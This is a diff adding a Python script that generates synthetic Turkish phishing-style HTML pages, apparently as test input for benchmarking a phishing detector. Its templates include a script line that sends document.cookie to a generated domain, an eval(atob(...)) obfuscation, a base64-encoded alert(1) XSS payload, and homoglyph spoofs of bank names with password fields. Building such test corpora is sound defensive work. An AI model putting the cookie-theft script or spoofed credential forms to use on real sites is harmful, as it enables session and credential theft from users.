@@ -0,0 +1,162 @@
+"""Synthetic Turkish phishing corpus for the offline benchmarks.
+
+Usage: python benchmarks/corpus.py --out corpus/ [--count N] [--seed N]
+"""
+
+import argparse
+import base64
+import os
+import random
+
+PROFILES = ("link_heavy", "form_heavy", "image_heavy", "script_heavy", "large")
+
+BRANDS = ("garanti", "akbank", "ziraat", "yapikredi", "trendyol", "hepsiburada", "apple")
+HOMOGLYPHS = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "i": "ı"}
+SHORTENERS = ("bit.ly", "tinyurl.com", "is.gd", "kisa.link", "ow.ly")
+TLDS = (".com", ".com.tr", ".net", ".org", ".info")
+SENSITIVE_NAMES = ("şifre", "parola", "eposta", "kart_no", "hesap", "güvenlik_kodu", "email")
+PLAIN_NAMES = ("ad", "soyad", "sehir", "not", "q")
+SENTENCES = (
+    "Hesabınız askıya alınmıştır, lütfen hemen doğrula bağlantısına tıklayın.",
+    "Güvenlik nedeniyle şifre bilgilerinizi güncelle ve işlemi onayla.",
+    "Kampanyamızdan yararlanmak için kredi kartı bilgilerinizi girin.",
+    "Bu e-posta bilgilendirme amaçlıdır, yanıtlamayınız.",
+    "Siparişiniz kargoya verilmiştir, takip numarası 1234567890123 ile sorgulayabilirsiniz.",
+    "Destek için +905551234567 numaralı hattı arayabilir veya destek@ornek.com adresine yazabilirsiniz.",
+    "IBAN: TR330006100519786457841326 hesabına ödeme yapınız.",
+    "Haftalık bültenimize hoş geldiniz, yeni ürünlerimizi inceleyin.",
+)
+# 1x1 PNG
+PIXEL_PNG = base64.b64encode(
+    bytes.fromhex(
+        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
+    )
+).decode()
+
+
+def spoofed(brand: str, rng: random.Random) -> str:
+    chars = list(brand)
+    positions = [i for i, char in enumerate(chars) if char in HOMOGLYPHS]
+    if positions:
+        position = rng.choice(positions)
+        chars[position] = HOMOGLYPHS[chars[position]]
+    return "".join(chars)
+
+
+def random_domain(rng: random.Random) -> str:
+    roll = rng.random()
+    if roll < 0.15:
+        return spoofed(rng.choice(BRANDS), rng) + rng.choice(TLDS)
+    if roll < 0.30:
+        return rng.choice(BRANDS) + rng.choice(("-giris", "-destek", "online", "guvenlik")) + rng.choice(TLDS)
+    return f"site{rng.randrange(100_000)}" + rng.choice(TLDS)
+
+
+def link(rng: random.Random) -> str:
+    if rng.random() < 0.15:
+        suffix = ".png" if rng.random() < 0.5 else ""
+        url = f"http://{rng.choice(SHORTENERS)}/{rng.randrange(10**8):x}{suffix}"
+    else:
+        url = f"https://{random_domain(rng)}/kampanya?id={rng.randrange(10**6)}"
+    return f'<a href="{url}">{rng.choice(SENTENCES)[:40]}</a>'
+
+
+def form(rng: random.Random) -> str:
+    action = rng.choice(("/giris", f"https://{random_domain(rng)}/post"))
+    inputs = "".join(
+        f'<input type="text" name="{rng.choice(SENSITIVE_NAMES + PLAIN_NAMES)}">'
+        for _ in range(rng.randint(1, 6))
+    )
+    return f'<form action="{action}">{inputs}<input type="submit"></form>'
+
+
+def table(rng: random.Random) -> str:
+    cells = "".join(
+        f'<td><input type="password" name="{rng.choice(SENSITIVE_NAMES)}"></td>'
+        for _ in range(rng.randint(1, 3))
+    )
+    return f"<table><tr>{cells}</tr></table>"
+
+
+def image(rng: random.Random) -> str:
+    if rng.random() < 0.6:
+        payload = PIXEL_PNG if rng.random() < 0.8 else base64.b64encode(b"<script>alert(1)</script>").decode()
+        src = f"data:image/png;base64,{payload}"
+    else:
+        src = f"https://cdn{rng.randrange(50)}.example.com/banner{rng.randrange(10**5)}.jpg"
+    alt = rng.choice(("kampanya görseli", "scan QR", "hesap doğrula", "logo", ""))
+    return f'<img src="{src}" alt="{alt}">'
+
+
+def script(rng: random.Random) -> str:
+    body = rng.choice(
+        (
+            f'fetch("https://{random_domain(rng)}/c?d=" + document.cookie);',
+            f'eval(atob("{base64.b64encode(b"window.location=1").decode()}"));',
+            "var x = document.getElementById('menu'); x.className = 'open';",
+            f'fetch("/api/urun/{rng.randrange(1000)}").then(r => r.json());',
+        )
+    )
+    return f"<script>{body}</script>"
+
+
+def iframe(rng: random.Random) -> str:
+    return f'<iframe src="https://{random_domain(rng)}/frame"></iframe>'
+
+
+def paragraph(rng: random.Random) -> str:
+    return "<p>" + " ".join(rng.choice(SENTENCES) for _ in range(rng.randint(1, 4))) + "</p>"
+
+
+# Profil başına (üretici, ağırlık) listesi ve hedef boyut
+_MIXES = {
+    "link_heavy": (((link, 8), (paragraph, 2), (image, 1)), 30_000),
+    "form_heavy": (((form, 5), (table, 2), (paragraph, 2), (link, 1)), 20_000),
+    "image_heavy": (((image, 8), (paragraph, 1), (link, 1)), 40_000),
+    "script_heavy": (((script, 6), (iframe, 2), (paragraph, 1), (link, 1)), 25_000),
+    "large": (((paragraph, 6), (link, 2), (form, 1), (image, 1), (script, 1)), 3_000_000),
+}
+
+
+def build_document(profile: str, rng: random.Random, size: int = None) -> str:
+    makers, default_size = _MIXES[profile]
+    size = size or default_size
+    functions = [maker for maker, _ in makers]
+    weights = [weight for _, weight in makers]
+
+    parts = ["<html><head><title>Bildirim</title></head><body>"]
+    length = len(parts[0])
+    while length < size:
+        block = rng.choices(functions, weights)[0](rng)
+        parts.append(block)
+        length += len(block)
+    parts.append("</body></html>")
+    return "\n".join(parts)
+
+
+def generate_corpus(count: int, seed: int = 42, profiles=PROFILES):
+    """Yield ``(profile, html)`` pairs, cycling through ``profiles``."""
+    rng = random.Random(seed)
+    for index in range(count):
+        profile = profiles[index % len(profiles)]
+        yield profile, build_document(profile, rng)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--out", required=True)
+    parser.add_argument("--count", type=int, default=50)
+    parser.add_argument("--seed", type=int, default=42)
+    args = parser.parse_args()
+
+    os.makedirs(args.out, exist_ok=True)
+    for index, (profile, html) in enumerate(generate_corpus(args.count, args.seed)):
+        path = os.path.join(args.out, f"{index:05d}_{profile}.html")
+        with open(path, "w", encoding="utf-8") as file:
+            file.write(html)
+    print(f"{args.count} belge yazıldı: {args.out}")
+
+
+if __name__ == "__main__":
+    main()